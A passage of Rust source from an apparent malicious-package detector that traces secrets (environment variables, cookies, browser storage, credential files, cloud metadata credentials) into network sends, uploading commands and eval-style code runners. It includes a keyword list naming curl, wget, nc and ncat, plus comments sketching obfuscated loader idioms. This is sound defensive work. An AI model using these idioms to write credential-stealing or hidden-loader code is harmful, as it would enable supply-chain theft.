            c.arguments.iter().filter_map(|a| match a {
                Argument::SpreadElement(s) => Some(&s.argument),
                a => a.as_expression(),
            })
        };
        // `Buffer.from(require('./x.json').blob, 'base64')`, `atob(blob)` of a field destructured
        // from required JSON: a built-in decoder over a data file of the package.
        if matches!(p, "Buffer.from" | "atob")
            && args().next().is_some_and(|a| self.required_json(a, 0))
            && (p == "atob"
                || args()
                    .nth(1)
                    .and_then(|e| self.fold_expr(e))
                    .is_some_and(|enc| matches!(enc.as_str(), "base64" | "base64url" | "hex")))
        {
            return Some((
                Source::Decoded,
                format!("{p}(…) of a field of a required data file"),
            ));
        }
        let decoding_local = matches!(c.callee.without_parentheses(),
            Expression::Identifier(id) if self.decoders.get(id.name.as_str()).copied() == Some(true));
        let builtin = matches!(
            p,
            "String.fromCharCode" | "String.fromCharCode.apply" | "String.fromCodePoint"
        );
        if (decoding_local || builtin) && all_args().any(|a| self.constant_data(a)) {
            // A key from the host's identity wins: the stage only decodes on its target.
            for a in all_args() {
                if let Some(t) = self.taint_of(a, depth + 1)
                    && t.0 == Source::Host
                {
                    return Some(t);
                }
            }
            return Some((Source::Decoded, format!("{p}(…) of constant data")));
        }
        // `'…'.split('').map((ch) => String.fromCharCode(ch.charCodeAt(0) ^ 7))`,
        // `s.replace(/[a-z]/gi, rot)`: a decoding callback over constant data.
        if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
            && matches!(
                m.property.name.as_str(),
                "map" | "replace" | "replaceAll" | "reduce" | "forEach"
            )
            && self.constant_data(&m.object)
            && args().any(|a| match a.without_parentheses() {
                Expression::ArrowFunctionExpression(_) | Expression::FunctionExpression(_) => {
                    self.an.source_of(a.span()).is_some_and(decoder_body)
                }
                Expression::Identifier(id) => {
                    self.decoders.get(id.name.as_str()).copied() == Some(true)
                }
                _ => false,
            })
        {
            return Some((
                Source::Decoded,
                format!("a decoding .{}(…)", m.property.name),
            ));
        }
        None
    }

    /// Taints the parameters of the functions among `args` (callbacks) with `t`.
    fn taint_callbacks(&mut self, args: &[Argument], t: &Taint) {
        for a in args {
            match a.as_expression().map(|e| e.without_parentheses()) {
                Some(Expression::ArrowFunctionExpression(f)) => {
                    for p in &f.params.items {
                        self.taint_pattern(&p.pattern, t);
                    }
                }
                Some(Expression::FunctionExpression(f)) => {
                    for p in &f.params.items {
                        self.taint_pattern(&p.pattern, t);
                    }
                }
                Some(Expression::Identifier(id)) => {
                    if let Some(names) = self.params.get(id.name.as_str()).cloned() {
                        for n in names.iter().filter(|n| !n.is_empty()) {
                            self.taint_var(n, t.clone());
                        }
                    }
                }
                _ => {}
            }
        }
    }

    /// A code runner given hidden code: records a run.
    fn check_runner(&mut self, p: &str, args: &[Argument], off: u32) {
        let code = self.runner_code(p, args);
        self.sites |= !code.is_empty();
        let t = code
            .into_iter()
            .filter(|e| {
                !matches!(
                    e.without_parentheses(),
                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                )
            })
            .filter_map(|e| self.taint_of(e, 0))
            .filter(|t| t.0 <= Source::Host)
            .max_by_key(|t| t.0);
        if let Some((source, what)) = t {
            self.runs.push(Flow {
                source,
                what,
                sink: p.to_string(),
                off,
            });
        }
    }

    /// The arguments of a call to runner `p` that hold the code it runs (none when `p` runs no
    /// code). Depends only on the program and the alias map, never on taints: see [`has_sites`].
    fn runner_code<'e, 'a>(&self, p: &str, args: &'e [Argument<'a>]) -> Vec<&'e Expression<'a>> {
        let exprs: Vec<&Expression> = args.iter().filter_map(|a| a.as_expression()).collect();
        if let Some(i) = code_runner(p, exprs.len()) {
            exprs.get(i).into_iter().copied().collect()
        } else if p == "worker_threads.Worker"
            && (exprs.iter().skip(1).any(|e| {
                self.an
                    .source_of(e.span())
                    .is_some_and(|s| s.replace(' ', "").contains("eval:true"))
            }) || exprs
                .first()
                .and_then(|e| self.an.source_of(e.span()))
                .is_some_and(|s| s.contains("data:") || s.contains("blob:")))
        {
            exprs.first().into_iter().copied().collect()
        } else if p == "Reflect.construct" || p == "Reflect.apply" {
            // `Reflect.construct(Function, ["r", code])`, `Reflect.apply(eval, null, [code])`.
            let target = exprs.first().and_then(|e| self.path_of(e));
            if !matches!(target.as_deref(), Some("Function" | "eval")) {
                return Vec::new();
            }
            exprs.last().into_iter().copied().collect()
        } else if p.ends_with(".post")
            && exprs
                .first()
                .and_then(|e| self.fold_expr(e))
                .is_some_and(|m| m == "Runtime.evaluate" || m == "Runtime.compileScript")
        {
            // The inspector protocol: `session.post('Runtime.evaluate', { expression })`.
            exprs.get(1).into_iter().copied().collect()
        } else if crate::rules::exec::is_spawn(p)
            && exprs.iter().take(2).any(|e| {
                self.an
                    .source_of(e.span())
                    .is_some_and(|s| s.contains("node") || s.contains("execPath"))
                    || self.fold_expr(e).is_some_and(|s| s.contains("node"))
            })
            && exprs.iter().take(2).any(|e| {
                self.an
                    .source_of(e.span())
                    .is_some_and(|s| s.contains("-e") || s.contains("--eval") || s.contains("-p"))
            })
        {
            // `node -e <code>`.
            exprs.iter().take(2).copied().collect()
        } else {
            Vec::new()
        }
    }

    /// The strongest source an expression carries, if any.
    fn taint_of(&self, e: &Expression, depth: u32) -> Option<Taint> {
        if depth > 24 {
            return None;
        }
        let best = |a: Option<Taint>, b: Option<Taint>| match (a, b) {
            (Some(x), Some(y)) => Some(if y.0 > x.0 { y } else { x }),
            (x, None) => x,
            (None, y) => y,
        };
        match e.without_parentheses() {
            // The whole of a browser storage (`JSON.stringify(localStorage)`).
            Expression::Identifier(id)
                if matches!(id.name.as_str(), "localStorage" | "sessionStorage")
                    && !self.vars.contains_key(id.name.as_str()) =>
            {
                Some((Source::Secrets, "browser storage".into()))
            }
            Expression::Identifier(id) => self.vars.get(id.name.as_str()).cloned(),
            Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
                if let Some(p) = self.path_of(e) {
                    if p == "process.env" {
                        return Some((Source::Secrets, "process.env".into()));
                    }
                    if let Some(v) = p.strip_prefix("process.env.") {
                        return secret_var(v).then(|| (Source::Token, p.clone()));
                    }
                    if matches!(p.as_str(), "document.cookie" | "window.document.cookie") {
                        return Some((Source::Token, "document.cookie".into()));
                    }
                }
                let (obj, prop) = match e.without_parentheses() {
                    Expression::StaticMemberExpression(m) => {
                        (&m.object, Some(m.property.name.as_str()))
                    }
                    Expression::ComputedMemberExpression(m) => (&m.object, None),
                    _ => return None,
                };
                // `localStorage.length`, `localStorage.theme`: one named field, not the store.
                if prop.is_some() && is_storage(obj) && !self.vars.contains_key(storage_name(obj)) {
                    return None;
                }
                let t = self.taint_of(obj, depth + 1)?;
                // One variable of the whole environment (`env[key]`, `env.HOME`) is that
                // variable, not every secret.
                if t.1 == "process.env" {
                    // `env[k]` for every key `k` of the environment is the environment.
                    if let Expression::ComputedMemberExpression(m) = e.without_parentheses()
                        && self
                            .taint_of(&m.expression, depth + 1)
                            .is_some_and(|k| k.0 == Source::Secrets)
                    {
                        return Some(t);
                    }
                    return prop
                        .filter(|p| secret_var(p))
                        .map(|p| (Source::Token, format!("process.env.{p}")));
                }
                Some(t)
            }
            Expression::CallExpression(c) => {
                if let Expression::Identifier(id) = c.callee.without_parentheses()
                    && let Some(t) = self.returns.get(id.name.as_str())
                {
                    return Some(t.clone());
                }
                let p = self.path_of(&c.callee).unwrap_or_default();
                let args = || c.arguments.iter().filter_map(|a| a.as_expression());
                if let Some(t) = self.hidden_code_source(c, &p, depth) {
                    return Some(t);
                }
                if matches!(
                    p.as_str(),
                    "fs.readFileSync"
                        | "fs.readFile"
                        | "fs.promises.readFile"
                        | "fs/promises.readFile"
                        | "fs.createReadStream"
                ) {
                    let first = args().next();
                    // `readFileSync(process.env.AWS_WEB_IDENTITY_TOKEN_FILE)`.
                    if let Some(v) = first
                        .and_then(|a| self.path_of(a))
                        .and_then(|p| p.strip_prefix("process.env.").map(str::to_string))
                        && (v.ends_with("TOKEN_FILE") || v.ends_with("CREDENTIALS_FILE"))
                    {
                        return Some((Source::Secrets, format!("reads {v}")));
                    }
                    return first
                        .and_then(|a| self.names_credential(a, 0))
                        .map(|w| (Source::Secrets, format!("reads {w}")))
                        .or_else(|| {
                            first
                                .and_then(|a| self.names_data_file(a, 0))
                                .map(|w| (Source::PackageData, format!("reads {w}")))
                        });
                }
                // Any process start (bundlers rename the module: `import_x.execSync`).
                let method = p.rsplit('.').next().unwrap_or(&p);
                if (method.starts_with("exec") || method.starts_with("spawn"))
                    && let Some(cmd) = args().next().and_then(|a| self.fold_expr(a))
                    && credential_helper(&cmd)
                {
                    return Some((Source::Secrets, cmd.trim().to_string()));
                }
                if matches!(p.as_str(), "os.hostname" | "os.userInfo") {
                    return Some((Source::Host, p));
                }
                let callee_text = if p.is_empty() {
                    self.an.source_of(c.callee.span()).unwrap_or_default()
                } else {
                    &p
                };
                if let Some((src, what)) = secret_store_read(callee_text, || {
                    args().next().and_then(|a| self.fold_expr(a))
                }) {
                    return Some((src, what.to_string()));
                }
                if crate::rules::network::is_net_call(&p) {
                    // A credential endpoint's answer is the machine's cloud role.
                    if args().take(2).any(|a| {
                        self.an
                            .fold_expr(a)
                            .or_else(|| self.an.source_of(a.span()).map(str::to_string))
                            .is_some_and(|u| credential_endpoint(&u))
                    }) {
                        return Some((Source::Secrets, "cloud instance credentials".into()));
                    }
                    return Some((Source::Remote, format!("the response of {p}")));
                }
                // The pixels of an image drawn on a canvas (`ctx.getImageData(…)`): images are
                // fetched by URL, and pixels read back to text are a known hiding place (QR or
                // steganographic stages). Not in bundles (over 200 KB): names are tracked without
                // scopes there, and a pixel buffer's name links to unrelated code.
                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
                    && m.property.name == "getImageData"
                    && self.an.src_len() <= 200 * 1024
                {
                    return Some((Source::Remote, "the pixels of an image".into()));
                }
                if is_sink(&p) {
                    return None;
                }
                let mut t = None;
                // Spread arguments too: `String.fromCharCode(...codes)` carries `codes`.
                for a in c.arguments.iter().filter_map(|a| match a {
                    Argument::SpreadElement(s) => Some(&s.argument),
                    a => a.as_expression(),
                }) {
                    t = best(t, self.taint_of(a, depth + 1));
                }
                // A method of a tainted value: `parsed.toString()`, `Buffer.from(x).toString()`.
                // A browser storage's methods were judged above by their key.
                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
                    && (!is_storage(&m.object) || self.vars.contains_key(storage_name(&m.object)))
                {
                    t = best(t, self.taint_of(&m.object, depth + 1));
                }
                t
            }
            Expression::NewExpression(n) => n
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .map(|a| self.taint_of(a, depth + 1))
                .fold(None, best),
            Expression::ObjectExpression(o) => {
                let mut t = None;
                for p in &o.properties {
                    match p {
                        ObjectPropertyKind::ObjectProperty(p) => {
                            // `{ env }`, `{ env: grabbed }`: a variable the code filled with
                            // secrets field by field, or `{ env: { ...process.env } }`, a copy
                            // of the whole environment; not settings handed to a client
                            // (`{ env: process.env }`, `{ env }` of a variable aliasing it).
                            let own_copy = matches!(&p.value, Expression::Identifier(id) if self.filled.contains(id.name.as_str()))
                                || whole_env_value(&p.value);
                            if p.key.static_name().is_some_and(|k| auth_key(&k)) && !own_copy {
                                continue;
                            }
                            t = best(t, self.taint_of(&p.value, depth + 1));
                        }
                        ObjectPropertyKind::SpreadProperty(s) => {
                            t = best(t, self.taint_of(&s.argument, depth + 1));
                        }
                    }
                }
                t
            }
            Expression::ArrayExpression(a) => a
                .elements
                .iter()
                .filter_map(|el| match el {
                    ArrayExpressionElement::SpreadElement(s) => Some(&s.argument),
                    el => el.as_expression(),
                })
                .map(|x| self.taint_of(x, depth + 1))
                .fold(None, best),
            Expression::TemplateLiteral(t) => t
                .expressions
                .iter()
                .map(|x| self.taint_of(x, depth + 1))
                .fold(None, best),
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => best(
                self.taint_of(&b.left, depth + 1),
                self.taint_of(&b.right, depth + 1),
            ),
            // `a && b` is `b` when it is anything worth sending.
            Expression::LogicalExpression(l) if l.operator == LogicalOperator::And => {
                self.taint_of(&l.right, depth + 1)
            }
            Expression::LogicalExpression(l) => best(
                self.taint_of(&l.left, depth + 1),
                self.taint_of(&l.right, depth + 1),
            ),
            Expression::ConditionalExpression(c) => best(
                self.taint_of(&c.consequent, depth + 1),
                self.taint_of(&c.alternate, depth + 1),
            ),
            Expression::AwaitExpression(a) => self.taint_of(&a.argument, depth + 1),
            // Compiled `await` (tsc's `__awaiter` generators, regenerator): `yield x` gives
            // back what `x` resolves to.
            Expression::YieldExpression(y) if !y.delegate => y
                .argument
                .as_ref()
                .and_then(|x| self.taint_of(x, depth + 1)),
            Expression::SequenceExpression(s) => s
                .expressions
                .last()
                .and_then(|x| self.taint_of(x, depth + 1)),
            Expression::AssignmentExpression(a) => self.taint_of(&a.right, depth + 1),
            Expression::ChainExpression(ch) => match &ch.expression {
                ChainElement::CallExpression(_) => None,
                m => m
                    .as_member_expression()
                    .and_then(|m| self.taint_of(m.object(), depth + 1)),
            },
            _ => None,
        }
    }

    /// Whether the command arguments of a process start upload with a network tool.
    fn uploads(&self, args: &[Argument]) -> bool {
        args.iter()
            .take(2)
            .filter_map(|a| a.as_expression())
            .any(|e| {
                let text = self
                    .an
                    .fold_expr(e)
                    .or_else(|| self.an.source_of(e.span()).map(str::to_string))
                    .unwrap_or_default();
                [
                    "curl ",
                    "wget ",
                    "nc ",
                    "ncat ",
                    "Invoke-WebRequest",
                    "Invoke-RestMethod",
                ]
                .iter()
                .any(|k| text.contains(k))
            })
    }

    /// Whether a call to `p` (`spawn`: a process start) sends its arguments out: a network
    /// send or an uploading command, not a request to the credential endpoint itself (the
    /// metadata token handshake is the client asking for its own role, not data leaving).
    /// Depends only on the program and the alias map, never on taints: see [`has_sites`].
    fn sink_site(&self, p: &str, spawn: bool, args: &[Argument]) -> bool {
        (is_sink(p) || spawn && self.uploads(args)) && !self.asks_credential_endpoint(args, 1)
    }

    /// Whether one of the first `n` arguments is the cloud credential endpoint's address.
    fn asks_credential_endpoint(&self, args: &[Argument], n: usize) -> bool {
        args.iter()
            .take(n)
            .filter_map(|a| a.as_expression())
            .any(|e| {
                self.an
                    .fold_expr(e)
                    .or_else(|| self.an.source_of(e.span()).map(str::to_string))
                    .is_some_and(|u| credential_endpoint(&u))
            })
    }

    /// The runner a callee names: its resolved path, or `<obj>.method` on an object the alias
    /// map does not know (`new Module(x)._compile(s)`).
    fn runner_of(&self, callee: &Expression, p: Option<&String>) -> Option<String> {
        match callee.without_parentheses() {
            // A global function picked by a name computed at run time (`globalThis[dec(k)](s)`,
            // or kept first: `const g = globalThis[dec(k)]; g(s)`): what it is given is run
            // like `eval`'s argument, the only global worth hiding.
            e if global_by_computed_name(e, &self.vars) => {
                return Some(GLOBAL_BY_COMPUTED_NAME.to_string());
            }
            Expression::Identifier(id) if self.global_picks.contains(id.name.as_str()) => {
                return Some(GLOBAL_BY_COMPUTED_NAME.to_string());
            }
            _ => {}
        }
        // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
        p.cloned().or_else(|| match callee.without_parentheses() {
            Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
            _ => None,
        })
    }

    fn check_sink(&mut self, callee: &Expression, args: &[Argument], off: u32) {
        // Local function: its parameters take the taint of the arguments.
        if let Expression::Identifier(id) = callee.without_parentheses()
            && let Some(n_params) = self.params.get(id.name.as_str()).map(Vec::len)
        {
            // `taint_var` leaves `params` alone, so each name is looked up only when tainted.
            for (i, a) in args.iter().take(n_params).enumerate() {
                if let Some(t) = a.as_expression().and_then(|e| self.taint_of(e, 0)) {
                    let n = self.params[id.name.as_str()][i].clone();
                    self.taint_var(&n, t);
                }
                // `pixels(path.join(__dirname, 'logo.png'))`: the parameter names that data file.
                if let Some(w) = a.as_expression().and_then(|e| self.names_data_file(e, 0)) {
                    let n = &self.params[id.name.as_str()][i];
                    if !self.data_paths.contains_key(n.as_str()) {
                        self.data_paths.insert(n.clone(), w);
                        self.grew = true;
                    }
                }
            }
        }
        // `return new Promise((resolve) => … resolve(data))`: the function returns the data.
        if let Expression::Identifier(id) = callee.without_parentheses()
            && id.name == "resolve"
            && let Some(name) = self.current.last().cloned()
            && let Some(t) = args
                .first()
                .and_then(|a| a.as_expression())
                .and_then(|e| self.taint_of(e, 0))
            && self.returns.get(&name).is_none_or(|old| old.0 < t.0)
        {
            self.returns.insert(name, t);
            self.grew = true;
        }
        let p = self.path_of(callee);
        // Containers filled with a secret: `out.push(env)`, `Object.assign(o, process.env)`.
        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
            && matches!(
                m.property.name.as_str(),
                "push" | "unshift" | "set" | "append"
            )
            && let Some(obj) = root_ident(&m.object)
            && let Some(t) = args
                .iter()
                .filter_map(|a| a.as_expression())
                .filter_map(|e| self.taint_of(e, 0))
                .max_by_key(|t| t.0)
        {
            self.taint_var(obj.name.as_str(), t);
        }
        if p.as_deref() == Some("Object.assign")
            && let Some(Expression::Identifier(obj)) = args
                .first()
                .and_then(|a| a.as_expression())
                .map(|e| e.without_parentheses())
            && let Some(t) = args
                .iter()
                .skip(1)
                .filter_map(|a| a.as_expression())
                .filter_map(|e| self.taint_of(e, 0))
                .max_by_key(|t| t.0)
        {
            self.taint_var(obj.name.as_str(), t);
        }
        // `paths.forEach((p) => …)` over credential paths: each parameter is such a path.
        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
            && matches!(
                m.property.name.as_str(),
                "forEach" | "map" | "filter" | "flatMap" | "reduce"
            )
            && let Some(w) = self.names_credential(&m.object, 0)
            && !self.only_npmrc(&m.object)
        {
            let first = args.first().and_then(|a| a.as_expression()).and_then(|e| {
                match e.without_parentheses() {
                    Expression::ArrowFunctionExpression(f) => f.params.items.first(),
                    Expression::FunctionExpression(f) => f.params.items.first(),
                    _ => None,
                }
            });
            if let Some(BindingPattern::BindingIdentifier(id)) = first.map(|p| &p.pattern) {
                let name = id.name.to_string();
                self.path_var(&name, &w);
            }
        }
        // Callbacks of a hidden value (`res.on('data', …)`, `.then(…)`) get that value.
        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
            && let Some(t) = self.taint_of(&m.object, 0)
            && (t.0 < Source::Host
                || matches!(
                    m.property.name.as_str(),
                    "forEach"
                        | "map"
                        | "filter"
                        | "reduce"
                        | "flatMap"
                        | "find"
                        | "some"
                        | "every"
                        | "then"
                        | "on"
                        | "once"
                ))
        {
            self.taint_callbacks(args, &t);
        }
        // A local function calling its callback parameter with hidden data hands it to every
        // function passed in that place (`remote((src) => m._compile(src))`).
        if let Expression::Identifier(id) = callee.without_parentheses() {
            if let Some(cur) = self.current.last()
                && let Some(idx) = self
                    .params
                    .get(cur)
                    .and_then(|ps| ps.iter().position(|n| n == id.name.as_str()))
                && let Some(t) = args
                    .iter()
                    .filter_map(|a| a.as_expression())
                    .filter_map(|e| self.taint_of(e, 0))
                    .max_by_key(|t| t.0)
            {
                let key = (cur.clone(), idx);
                if self.callback_taints.get(&key).is_none_or(|o| o.0 < t.0) {
                    self.callback_taints.insert(key, t);
                    self.grew = true;
                }
            }
            let given: Vec<(usize, Taint)> = self
                .callback_taints
                .iter()
                .filter(|((f, _), _)| f == id.name.as_str())
                .map(|((_, i), t)| (*i, t.clone()))
                .collect();
            for (i, t) in given {
                if let Some(a) = args.get(i) {
                    self.taint_callbacks(std::slice::from_ref(a), &t);
                }
            }
        }
        if let Some(r) = &self.runner_of(callee, p.as_ref()) {
            self.check_runner(r, args, off);
        }
        // An Electron session's outgoing requests, with their cookies and auth headers.
        if self.an.source_of(callee.span()).is_some_and(|c| {
            c.ends_with("webRequest.onBeforeSendHeaders") || c.ends_with("webRequest.onSendHeaders")
        }) {
            self.taint_callbacks(args, &(Source::Secrets, "request headers".into()));
        }
        let Some(p) = p else {
            return;
        };
        // Callbacks of a request get the response; callbacks of a hidden value (`res.on('data',
        // …)`, `.then(…)`) get that value; `fs.readFile(data, cb)` hands over the data.
        if crate::rules::network::is_net_call(&p) {
            let t = if self.asks_credential_endpoint(args, 2) {
                (Source::Secrets, "cloud instance credentials".to_string())
            } else {
                (Source::Remote, format!("the response of {p}"))
            };
            self.taint_callbacks(args, &t);
        } else if matches!(p.as_str(), "fs.readFile" | "fs.promises.readFile")
            && let Some(w) = args
                .first()
                .and_then(|a| a.as_expression())
                .and_then(|a| self.names_data_file(a, 0))
        {
            self.taint_callbacks(args, &(Source::PackageData, format!("reads {w}")));
        }
        let spawn = crate::rules::exec::is_spawn(&p);
        if !self.sink_site(&p, spawn, args) {
            return;
        }
        self.sites = true;
        let taken = if spawn { 2 } else { 4 };
        let t = args
            .iter()
            .take(taken)
            .enumerate()
            .filter_map(|(i, a)| a.as_expression().map(|e| (i, e)))
            // A request to the address the configuration names sends nothing to anyone else:
            // `fetch(GITHUB_GRAPHQL_URL, …)` with the URL picked from the project's `.env`
            // (@changesets/get-github-info 1.0.1). What goes in its headers and body still counts.
            .filter(|(i, e)| {
                spawn
                    || *i != 0
                    || !matches!(e.without_parentheses(), Expression::Identifier(id) if self.addresses.contains(id.name.as_str()))
            })
            .map(|(_, e)| e)
            .filter(|e| {
                !matches!(
                    e.without_parentheses(),
                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                )
            })
            .filter_map(|e| self.taint_of(e, 0))
            .max_by_key(|t| t.0);
        if let Some((source, what)) = t {
            self.flows.push(Flow {
                source,
                what,
                sink: p,
                off,
            });
        }
    }
}

/// `import('data:text/javascript,' + code)`: a module made of a string.
fn inline_import(an: &Analyzer, it: &ImportExpression) -> bool {
    an.source_of(it.source.span())
        .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"))
}

/// Whether the program has a place where the tracker records a flow or a run: a sink, a code
/// runner given code, an inline `import()`. It asks the same questions as the tracker's walk
/// ([`Tracker::sink_site`], [`Tracker::runner_code`], [`inline_import`]), which depend only on
/// the program and the alias map, so a program without one has no flow and no run whatever the
/// taints, and the tracker need not walk it at all. Most bundles that pass [`worth_tracking`]
/// have none. The probe stops at the first site; the paths it resolves stay in the tracker's
/// memo.
fn has_sites(t: &Tracker, program: &Program) -> bool {
    let mut probe = SiteProbe { t, found: false };
    probe.visit_program(program);
    probe.found
}

struct SiteProbe<'t, 'b, 's> {
    t: &'t Tracker<'b, 's>,
    found: bool,
}

impl SiteProbe<'_, '_, '_> {
    fn call(&mut self, callee: &Expression, args: &[Argument]) {
        // Not through the tracker's memo: most probed files are not tracked after.
        let p = self.t.an.path_of(callee);
        if let Some(r) = self.t.runner_of(callee, p.as_ref())
            && !self.t.runner_code(&r, args).is_empty()
        {
            self.found = true;
            return;
        }
        if let Some(p) = p {
            let spawn = crate::rules::exec::is_spawn(&p);
            self.found = self.t.sink_site(&p, spawn, args);
        }
    }
}

impl<'a> Visit<'a> for SiteProbe<'_, '_, '_> {
    fn visit_statement(&mut self, it: &Statement<'a>) {
        if !self.found {
            walk::walk_statement(self, it);
        }
    }

    fn visit_expression(&mut self, it: &Expression<'a>) {
        if !self.found {
            walk::walk_expression(self, it);
        }
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        self.call(&it.callee, &it.arguments);
        if !self.found {
            walk::walk_call_expression(self, it);
        }
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        self.call(&it.callee, &it.arguments);
        if !self.found {
            walk::walk_new_expression(self, it);
        }
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        // `const g = globalThis[dec(k)]`: the tracker learns `g` is a runner only while it
        // walks, so the pick itself counts as a site.
        if it
            .init
            .as_ref()
            .is_some_and(|e| global_by_computed_name(e, &self.t.vars))
        {
            self.found = true;
        }
        if !self.found {
            walk::walk_variable_declarator(self, it);
        }
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        self.found |= inline_import(self.t.an, it);
        if !self.found {
            walk::walk_import_expression(self, it);
        }
    }
}

/// The variable a member chain starts from (`u.searchParams` → `u`).
fn root_ident<'e, 'a>(e: &'e Expression<'a>) -> Option<&'e IdentifierReference<'a>> {
    match e.without_parentheses() {
        Expression::Identifier(id) => Some(id),
        Expression::StaticMemberExpression(m) => root_ident(&m.object),
        _ => None,
    }
}

fn param_names(params: &FormalParameters) -> Vec<String> {
    params
        .items
        .iter()
        .map(|p| param_name(p).to_string())
        .collect()
}

/// A parameter's name (`a`, `a = 1`), empty for a pattern.
fn param_name<'p>(p: &'p FormalParameter) -> &'p str {
    match &p.pattern {
        BindingPattern::BindingIdentifier(id) => id.name.as_str(),
        BindingPattern::AssignmentPattern(a) => match &a.left {
            BindingPattern::BindingIdentifier(id) => id.name.as_str(),
            _ => "",
        },
        _ => "",
    }
}

/// Records the parameter names of local function `name`, without new strings when a pass
/// finds them as they already are.
fn set_params(map: &mut HashMap<String, Vec<String>>, name: &str, params: &FormalParameters) {
    if let Some(old) = map.get(name)
        && old.len() == params.items.len()
        && old
            .iter()
            .zip(&params.items)
            .all(|(o, p)| o == param_name(p))
    {
        return;
    }
    map.insert(name.to_string(), param_names(params));
}

impl<'a> Visit<'a> for Tracker<'_, '_> {
    fn visit_function(&mut self, it: &Function<'a>, flags: oxc_syntax::scope::ScopeFlags) {
        if let Some(id) = &it.id {
            set_params(&mut self.params, id.name.as_str(), &it.params);
            if let Some(body) = &it.body
                && !self.decoders.contains_key(id.name.as_str())
            {
                let dec = self.an.source_of(body.span).is_some_and(decoder_body);
                self.decoders.insert(id.name.to_string(), dec);
            }
            self.current.push(id.name.to_string());
            walk::walk_function(self, it, flags);
            self.current.pop();
        } else {
            walk::walk_function(self, it, flags);
        }
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        if let (Some(name), Some(arg)) = (self.current.last(), &it.argument)
            && !self.cred_returns.contains_key(name)
            && let Some(w) = self.names_credential(arg, 0)
        {
            self.cred_returns.insert(name.clone(), w);
            self.grew = true;
        }
        if let (Some(name), Some(arg)) = (self.current.last(), &it.argument)
            && let Some(t) = self.taint_of(arg, 0)
            && self.returns.get(name).is_none_or(|old| old.0 < t.0)
        {
            self.returns.insert(name.clone(), t);
            self.grew = true;
        }
        walk::walk_return_statement(self, it);
    }

    fn visit_for_of_statement(&mut self, it: &ForOfStatement<'a>) {
        if let Some(t) = self.taint_of(&it.right, 0)
            && let ForStatementLeft::VariableDeclaration(d) = &it.left
        {
            for decl in &d.declarations {
                self.taint_pattern(&decl.id, &t);
            }
        }
        // `for (const p of ['.npmrc', '.pypirc'])`: each item is such a path. The user's and the
        // project's `.npmrc` in turn is how npm config loaders read their settings.
        if let ForStatementLeft::VariableDeclaration(d) = &it.left
            && let Some(w) = self.names_credential(&it.right, 0)
            && !self.only_npmrc(&it.right)
        {
            for decl in &d.declarations {
                if let BindingPattern::BindingIdentifier(id) = &decl.id {
                    self.path_var(id.name.as_str(), &w);
                }
            }
        }
        walk::walk_for_of_statement(self, it);
    }

    fn visit_if_statement(&mut self, it: &IfStatement<'a>) {
        // `if (NAMES.some((n) => p.endsWith(n))) read(p)`: a walked path picked by a list of
        // credential file names is such a path.
        if let Some((name, w)) = self.picked_by_credential_list(&it.test) {
            self.path_var(&name, &w);
        }
        walk::walk_if_statement(self, it);
    }

    fn visit_for_in_statement(&mut self, it: &ForInStatement<'a>) {
        if let Some(t) = self.taint_of(&it.right, 0)
            && let ForStatementLeft::VariableDeclaration(d) = &it.left
        {
            for decl in &d.declarations {
                self.taint_pattern(&decl.id, &t);
            }
        }
        walk::walk_for_in_statement(self, it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            if let BindingPattern::BindingIdentifier(id) = &it.id
                && global_by_computed_name(init, &self.vars)
            {
                self.global_picks.insert(id.name.to_string());
            }
            if let BindingPattern::BindingIdentifier(id) = &it.id {
                match init.without_parentheses() {
                    Expression::ArrowFunctionExpression(f) => {
                        set_params(&mut self.params, id.name.as_str(), &f.params);
                        let dec = self.an.source_of(f.body.span()).is_some_and(decoder_body);
                        if self.decoders.get(id.name.as_str()) != Some(&dec) {
                            self.decoders.insert(id.name.to_string(), dec);
                        }
                    }
                    Expression::FunctionExpression(f) => {
                        set_params(&mut self.params, id.name.as_str(), &f.params);
                        let dec = f
                            .body
                            .as_ref()
                            .and_then(|b| self.an.source_of(b.span))
                            .is_some_and(decoder_body);
                        if self.decoders.get(id.name.as_str()) != Some(&dec) {
                            self.decoders.insert(id.name.to_string(), dec);
                        }
                    }
                    e => {
                        if self.constant_data(e) && !self.const_data.contains_key(id.name.as_str())
                        {
                            self.const_data.insert(id.name.to_string(), true);
                        }
                        if !self.data_paths.contains_key(id.name.as_str())
                            && !matches!(e, Expression::CallExpression(c)
                                if self.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.") || p == "require"))
                            && let Some(w) = self.names_data_file(e, 0)
                        {
                            self.data_paths.insert(id.name.to_string(), w);
                            self.grew = true;
                        }
                    }
                }
            }
            if self.required_json(init, 0) {
                let mut names = Vec::new();
                match &it.id {
                    BindingPattern::BindingIdentifier(id) => names.push(id.name.to_string()),
                    BindingPattern::ObjectPattern(obj) => {
                        for p in &obj.properties {
                            if let BindingPattern::BindingIdentifier(id) = &p.value {
                                names.push(id.name.to_string());
                            }
                        }
                    }
                    _ => {}
                }
                for n in names {
                    if let std::collections::hash_map::Entry::Vacant(e) = self.json_vars.entry(n) {
                        e.insert(true);
                        self.grew = true;
                    }
                }
            }
            // `const { blob } = require('../data/x.json')`: each field is constant data.
            if let BindingPattern::ObjectPattern(obj) = &it.id
                && matches!(init.without_parentheses(), Expression::CallExpression(_))
                && self.constant_data(init)
            {
                for p in &obj.properties {
                    if let BindingPattern::BindingIdentifier(id) = &p.value
